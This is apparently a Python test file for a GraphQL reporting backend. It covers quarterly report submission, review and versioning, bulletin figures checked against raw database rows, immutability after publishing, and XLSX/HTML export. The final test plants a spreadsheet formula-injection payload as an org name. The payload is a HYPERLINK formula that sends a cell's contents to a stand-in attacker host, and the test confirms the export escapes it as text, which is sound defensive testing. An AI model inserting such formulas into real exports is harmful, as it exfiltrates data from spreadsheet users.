"""Quarterly reports and bulletins: windows, returns, versions, approval, immutability, and
every bulletin figure recomputed here from raw rows."""

from __future__ import annotations

import base64
import io
from datetime import timedelta

import sqlalchemy as sa
from openpyxl import load_workbook

from models import Bulletin, ReportVersion
from tests.helpers import add_user, gid, league_today, snapshot, standard_tree

SUBMIT = """mutation($o: ID!, $y: Int!, $q: Int!, $p: String!) { submitReport(orgId: $o, year: $y, quarter: $q,
  practices: $p, experience: "坚持每月调度", problems: "县级活动不均衡", nextSteps: "加强督导") {
  id status version late versions { nodes { version practices
  figures { periodStart periodEnd cadres activeCadres youthInContact logs fiveOnesDone fiveOnesCadres } } } } }"""


def quarter_of(d):
    return d.year, (d.month - 1) // 3 + 1


def previous_quarter(d):
    y, q = quarter_of(d)
    return (y, q - 1) if q > 1 else (y - 1, 4)


def next_quarter(d):
    y, q = quarter_of(d)
    return (y, q + 1) if q < 4 else (y + 1, 1)


async def test_report_flow_versions_and_approval(world) -> None:
    api = world.api
    city = await add_user(api.services, "cityA", org=world.tree["A"], roles=("city_admin",))
    province = await add_user(api.services, "prov", org=world.tree["P"], roles=("province_admin",))
    ct, pt = await api.token_for(city.id), await api.token_for(province.id)
    today = league_today(api.services)
    await world.activity("VOLUNTEER", at=None)
    ny, nq = next_quarter(today)
    early = await api.gql(
        SUBMIT, {"o": gid("Org", world.tree["A"].id), "y": ny, "q": nq, "p": "x"}, token=ct
    )
    assert early.codes == ["CONFLICT"]  # the window opens in the quarter's last week
    y, q = previous_quarter(today)
    r = (
        await api.gql(
            SUBMIT,
            {"o": gid("Org", world.tree["A"].id), "y": y, "q": q, "p": "第一版做法"},
            token=ct,
        )
    ).data["submitReport"]
    assert (r["status"], r["version"], r["late"]) == (
        "SUBMITTED",
        1,
        True,
    )  # after the quarter: late
    figures = r["versions"]["nodes"][0]["figures"]
    assert figures["periodStart"] == f"{y}-{3 * q - 2:02d}-01"  # typed: a Date, camelCase
    async with api.services.engine.connect() as conn:
        cadres = await conn.scalar(
            sa.text("SELECT count(*) FROM cadres WHERE org_path <@ CAST(:p AS ltree)"),
            {"p": world.tree["A"].path},
        )
    assert figures["cadres"] == cadres and figures["fiveOnesCadres"] >= figures["fiveOnesDone"]
    review = "mutation($id: ID!, $a: Boolean!, $c: String!) { reviewReport(id: $id, approve: $a, comment: $c) { status reviewComment } }"
    assert (await api.gql(review, {"id": r["id"], "a": True, "c": ""}, token=ct)).codes == [
        "FORBIDDEN"
    ]  # not its own approver
    assert (await api.gql(review, {"id": r["id"], "a": False, "c": ""}, token=pt)).codes == [
        "BAD_USER_INPUT"
    ]
    back = await api.gql(review, {"id": r["id"], "a": False, "c": "请补充县级数据分析"}, token=pt)
    assert back.data["reviewReport"] == {
        "status": "RETURNED",
        "reviewComment": "请补充县级数据分析",
    }
    r2 = (
        await api.gql(
            SUBMIT,
            {"o": gid("Org", world.tree["A"].id), "y": y, "q": q, "p": "第二版做法"},
            token=ct,
        )
    ).data["submitReport"]
    assert r2["version"] == 2 and [v["practices"] for v in r2["versions"]["nodes"]] == [
        "第一版做法",
        "第二版做法",
    ]
    assert (await api.gql(review, {"id": r["id"], "a": True, "c": "好"}, token=pt)).data[
        "reviewReport"
    ]["status"] == "APPROVED"
    assert (
        await api.gql(
            SUBMIT, {"o": gid("Org", world.tree["A"].id), "y": y, "q": q, "p": "改"}, token=ct
        )
    ).codes == ["CONFLICT"]
    missing = await api.gql(
        "query($y: Int!, $q: Int!) { missingReports(year: $y, quarter: $q) { nodes { name } } }",
        {"y": y, "q": q},
        token=pt,
    )
    assert missing.data["missingReports"]["nodes"] == [{"name": "乙市"}]
    async with api.services.sessionmaker() as s:
        assert await s.scalar(sa.select(sa.func.count()).select_from(ReportVersion)) == 2


GENERATE = """mutation($o: ID!, $y: Int!, $q: Int!) { generateBulletin(orgId: $o, year: $y, quarter: $q) {
  id published rows { name cadres activeCadres points pointsPerCadre youthInContact fiveOnesDone
    fiveOnesRate satisfaction spotCheckPassRate flags org { name } } } }"""


async def test_bulletin_figures_equal_raw_rows_and_publishing_freezes_it(world) -> None:
    api = world.api
    for kind in ["PRACTICAL_DEED", "LEAGUE_LESSON", "HEART_TALK", "VOLUNTEER", "CULTURE_SPORTS"]:
        await world.activity(kind)
    await world.contact(world.youth_ids[0])
    province = await add_user(api.services, "prov", org=world.tree["P"], roles=("province_admin",))
    t = await api.token_for(province.id)
    y, q = quarter_of(league_today(api.services))
    b = (
        await api.gql(GENERATE, {"o": gid("Org", world.tree["A"].id), "y": y, "q": q}, token=t)
    ).data["generateBulletin"]
    rows = {r["name"]: r for r in b["rows"]}
    a1 = rows["甲一县"]
    start = league_today(api.services).replace(month=3 * q - 2, day=1)
    async with api.services.engine.connect() as conn:

        async def one(sql):
            return await conn.scalar(sa.text(sql), {"p": world.tree["A1"].path, "d": start})

        assert a1["cadres"] == await one(
            "SELECT count(*) FROM cadres WHERE org_path <@ CAST(:p AS ltree)"
        )
        assert a1["activeCadres"] == await one(
            "SELECT count(DISTINCT cadre_id) FROM work_logs WHERE org_path <@ CAST(:p AS ltree)"
        )
        assert a1["points"] == await one(
            "SELECT sum(points) FROM point_entries WHERE org_path <@ CAST(:p AS ltree) AND day >= :d"
        )
        assert a1["youthInContact"] == await one(
            "SELECT count(DISTINCT youth_id) FROM contacts WHERE status = 'ACTIVE' AND org_path <@ CAST(:p AS ltree)"
        )
        assert a1["flags"] == await one(
            "SELECT count(*) FROM flags WHERE org_path <@ CAST(:p AS ltree)"
        )
    assert a1["pointsPerCadre"] == round(a1["points"] / a1["cadres"], 2)
    assert (a1["fiveOnesDone"], a1["fiveOnesRate"]) == (1, 1.0)  # the one cadre did one of each
    assert rows["甲二县"]["cadres"] == 0 and rows["甲二县"]["fiveOnesRate"] == 0.0
    pub = await api.gql(
        "mutation($id: ID!) { publishBulletin(id: $id) { published publishedAt } }",
        {"id": b["id"]},
        token=t,
    )
    assert pub.data["publishBulletin"]["published"] is True
    await world.activity("VOLUNTEER")  # new data after publishing...
    before = await snapshot(api.services)
    again = await api.gql(GENERATE, {"o": gid("Org", world.tree["A"].id), "y": y, "q": q}, token=t)
    assert again.codes == ["CONFLICT"]  # ...does not change a published bulletin
    assert (
        await api.gql(
            "mutation($id: ID!) { publishBulletin(id: $id) { id } }", {"id": b["id"]}, token=t
        )
    ).codes == ["CONFLICT"]
    assert await snapshot(api.services) == before
    async with api.services.engine.connect() as conn:  # not even directly in the database
        try:
            await conn.execute(sa.update(Bulletin).values(rows=[]))
        except sa.exc.DBAPIError as exc:
            assert "cannot change" in str(exc)
        else:
            raise AssertionError("a published bulletin was changed")
    xlsx = (
        await api.gql(
            "query($id: ID!) { exportBulletin(id: $id, format: XLSX) { filename contentBase64 } }",
            {"id": b["id"]},
            token=t,
        )
    ).data["exportBulletin"]
    sheet = load_workbook(io.BytesIO(base64.b64decode(xlsx["contentBase64"]))).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "组织" and {v[0] for v in values[1:]} == {"甲一县", "甲二县"}
    page = (
        await api.gql(
            "query($id: ID!) { exportBulletin(id: $id, format: HTML) { filename contentBase64 } }",
            {"id": b["id"]},
            token=t,
        )
    ).data["exportBulletin"]
    text = base64.b64decode(page["contentBase64"]).decode()
    assert (
        page["filename"].endswith(".html")
        and "甲一县" in text
        and "发布时间" in text
        and "@media print" in text
    )
    assert timedelta(days=1)


async def test_bulletin_xlsx_writes_a_planted_org_name_as_text(api) -> None:
    tree = await standard_tree(api.services)
    province = await add_user(api.services, "prov", org=tree["P"], roles=("province_admin",))
    t = await api.token_for(province.id)
    rename = "mutation($id: ID!, $n: String!) { updateOrg(input: {id: $id, name: $n}) { name } }"
    planted = '=HYPERLINK("http://evil.example/?"&A3,"点我")'
    assert (await api.gql(rename, {"id": gid("Org", tree["A1"].id), "n": planted}, token=t)).data
    y, q = quarter_of(league_today(api.services))
    b = (await api.gql(GENERATE, {"o": gid("Org", tree["A"].id), "y": y, "q": q}, token=t)).data
    xlsx = (
        await api.gql(
            "query($id: ID!) { exportBulletin(id: $id, format: XLSX) { contentBase64 } }",
            {"id": b["generateBulletin"]["id"]},
            token=t,
        )
    ).data["exportBulletin"]
    sheet = load_workbook(io.BytesIO(base64.b64decode(xlsx["contentBase64"]))).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s"}
    assert "'" + planted in {c.value for c in cells}
